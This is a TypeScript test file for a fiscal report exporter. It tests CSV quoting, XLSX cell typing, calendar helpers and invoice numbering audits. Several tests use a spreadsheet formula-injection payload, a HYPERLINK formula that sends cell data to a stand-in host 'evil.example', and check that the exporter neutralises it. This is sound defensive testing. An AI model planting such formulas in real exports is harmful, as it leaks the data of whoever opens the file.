import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { csvField, csvLine, writeCsvTable } from '../../src/services/fiscal-reports/csv-table-writer';
import type { ReportColumn, ReportTable } from '../../src/services/fiscal-reports/report-table';
import { csvCellText, neutralizedText, xlsxCellValue } from '../../src/services/fiscal-reports/spreadsheet-cells';
import { writeXlsxTable } from '../../src/services/fiscal-reports/xlsx-table-writer';
import { RangeNumberingCheck } from '../../src/services/fiscal-reports/numbering-audit/range-numbering-check';
import { addDays, dayMonthYear, startOfHondurasDay } from '../../src/domain/calendar-date';

async function* rows(list: string[][]): AsyncGenerator<string[]> {
  yield* list;
}

describe('CSV (RFC 4180)', () => {
  it('quotes only fields with a comma, quote or line break, doubling quotes', () => {
    expect(csvField('Arroz')).toBe('Arroz');
    expect(csvField('Ferretería "El Martillo", S.A.')).toBe('"Ferretería ""El Martillo"", S.A."');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvLine(['1', '', 'x,y'])).toBe('1,,"x,y"\r\n');
  });

  it('starts with a BOM and ends every record with CRLF', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await writeCsvTable(
      {
        title: 'x',
        columns: [
          { header: 'A', kind: 'text' },
          { header: 'B', kind: 'amount' },
        ],
        rows: rows([['ñ', '1.50']]),
      },
      out,
    );
    expect(Buffer.concat(chunks).toString('utf8')).toBe('\uFEFFA,B\r\nñ,1.50\r\n');
  });
});

/** Everything a table writer wrote, as bytes. */
async function written(write: (table: ReportTable, out: NodeJS.WritableStream) => Promise<void>, table: ReportTable): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(table, out);
  return Buffer.concat(chunks);
}

describe('spreadsheet cells (formula injection)', () => {
  const text: ReportColumn = { header: 'Cliente', kind: 'text' };
  const amount: ReportColumn = { header: 'Total', kind: 'amount' };
  const count: ReportColumn = { header: 'Cantidad', kind: 'count' };
  const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Ver detalle")';

  it.each([
    ['=', HYPERLINK],
    ['+', '+50499998888'],
    ['-', '-15'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('prefixes an apostrophe to text that begins with %s', (_start, value) => {
    expect(neutralizedText(value)).toBe(`'${value}`);
    expect(csvCellText(text, value)).toBe(`'${value}`);
  });

  it('leaves any other text as written: names, RTNs, digits, an empty cell, a sign further in', () => {
    for (const value of ['Ferretería López', '08019000000077', '1234', '', ' =1+1', 'a=b', 'CONSUMIDOR FINAL', "'ya citado"]) {
      expect(neutralizedText(value)).toBe(value);
      expect(csvCellText(text, value)).toBe(value);
    }
  });

  it('writes amounts and counts, negative ones too, as the numbers they are, by their column and not their look', () => {
    expect(csvCellText(amount, '-115.00')).toBe('-115.00');
    expect(csvCellText(amount, '0.00')).toBe('0.00');
    expect(csvCellText(amount, '')).toBe('');
    expect(csvCellText(count, '42')).toBe('42');
    // The same characters in a text column are text.
    expect(csvCellText(text, '-115.00')).toBe("'-115.00");
  });

  it('refuses an amount or count column holding anything but a number, rather than writing it unneutralized', () => {
    for (const value of [HYPERLINK, '1e3', '12,50', ' 1', '-', 'NaN']) {
      expect(() => csvCellText(amount, value)).toThrow('report column "Total" holds amounts, but a row gave it something else');
      expect(() => xlsxCellValue(count, value)).toThrow('report column "Cantidad" holds counts');
    }
  });

  it('gives XLSX a string for text, whatever it looks like, and a number for an amount or a count', () => {
    expect(xlsxCellValue(text, HYPERLINK)).toBe(HYPERLINK);
    expect(xlsxCellValue(text, '08019000000077')).toBe('08019000000077');
    expect(xlsxCellValue(amount, '-115.00')).toBe(-115);
    expect(xlsxCellValue(count, '7')).toBe(7);
    expect(xlsxCellValue(amount, '')).toBe('');
  });

  const hostile: () => ReportTable = () => ({
    title: 'x',
    columns: [text, { header: 'RTN', kind: 'text' }, amount],
    rows: rows([
      [HYPERLINK, '08019000000077', '-115.00'],
      ['-15', '1234', '230.00'],
    ]),
  });

  it('writes the CSV with the apostrophe inside the quoting, and plain numbers', async () => {
    const csv = (await written(writeCsvTable, hostile())).toString('utf8');
    expect(csv).toBe(
      '\uFEFFCliente,RTN,Total\r\n' +
        '"\'=HYPERLINK(""https://evil.example/?d=""&A2&B2,""Ver detalle"")",08019000000077,-115.00\r\n' +
        "'-15,1234,230.00\r\n",
    );
  });

  it('writes XLSX text as string cells, never formulas, and amounts as number cells', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await written(writeXlsxTable, hostile())) as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    const cells = [2, 3].map((r) => [1, 2, 3].map((c) => sheet.getCell(r, c)));
    expect(cells.map((row) => row.map((cell) => cell.type))).toEqual([
      [ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.Number],
      [ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.Number],
    ]);
    expect(cells.map((row) => row.map((cell) => cell.value))).toEqual([
      [HYPERLINK, '08019000000077', -115],
      ['-15', '1234', 230],
    ]);
    expect(cells.flat().some((cell) => cell.formula !== undefined)).toBe(false);
  });
});

describe('calendar helpers of the reports', () => {
  it('prints DD/MM/YYYY, starts a Honduras day at 06:00 UTC and adds days across months', () => {
    expect(dayMonthYear('2026-11-05')).toBe('05/11/2026');
    expect(startOfHondurasDay('2026-11-01').toISOString()).toBe('2026-11-01T06:00:00.000Z');
    expect(addDays('2026-12-31', 1)).toBe('2027-01-01');
    expect(addDays('2026-03-01', -1)).toBe('2026-02-28');
  });
});

describe('RangeNumberingCheck', () => {
  const range = {
    cai: 'C',
    documentType: 'invoice' as const,
    establishment: '000',
    emissionPoint: '001',
    rangeStart: 1,
    rangeEnd: 10,
    nextNumber: 6,
  };
  const invoice = (id: number, n: number, printed = n) => ({
    id,
    number: n,
    fiscalNumber: `000-001-01-${String(printed).padStart(8, '0')}`,
  });

  it('accepts exactly rangeStart..nextNumber-1', () => {
    const check = new RangeNumberingCheck(range);
    [1, 2, 3, 4, 5].forEach((n) => check.add(invoice(n, n)));
    expect(check.finish()).toEqual([]);
  });

  it('names gaps, repeats, numbers never handed out or outside the range, and printed numbers that disagree', () => {
    const check = new RangeNumberingCheck(range);
    [invoice(1, 1), invoice(2, 3), invoice(3, 3), invoice(4, 4, 7), invoice(5, 8), invoice(6, 11)].forEach((i) => check.add(i));
    expect(check.finish()).toEqual([
      'CAI C (000-001, 1-10, next 6): number 000-001-01-00000002 is missing (handed out, but no invoice carries it)',
      'invoice 3 (000-001-01-00000003): number 3 is also on invoice 2 of CAI C (000-001, 1-10, next 6)',
      'invoice 4 (000-001-01-00000007): its printed number does not match its number 4 (expected 000-001-01-00000004)',
      'invoice 5 (000-001-01-00000008): number 8 was never handed out by CAI C (000-001, 1-10, next 6)',
      'invoice 6 (000-001-01-00000011): number 11 is outside CAI C (000-001, 1-10, next 6)',
      'CAI C (000-001, 1-10, next 6): number 000-001-01-00000005 is missing (handed out, but no invoice carries it)',
    ]);
  });

  it('reads the printed numbers and names the documents of a credit note range by its type', () => {
    const check = new RangeNumberingCheck({ ...range, documentType: 'creditNote' });
    const note = (id: number, n: number, code = '06') => ({ id, number: n, fiscalNumber: `000-001-${code}-${String(n).padStart(8, '0')}` });
    [note(1, 1), note(2, 2), note(3, 3, '01'), note(4, 5)].forEach((n) => check.add(n));
    expect(check.finish()).toEqual([
      'credit note 3 (000-001-01-00000003): its printed number does not match its number 3 (expected 000-001-06-00000003)',
      'CAI C (000-001, 1-10, next 6): number 000-001-06-00000004 is missing (handed out, but no credit note carries it)',
    ]);
  });
});
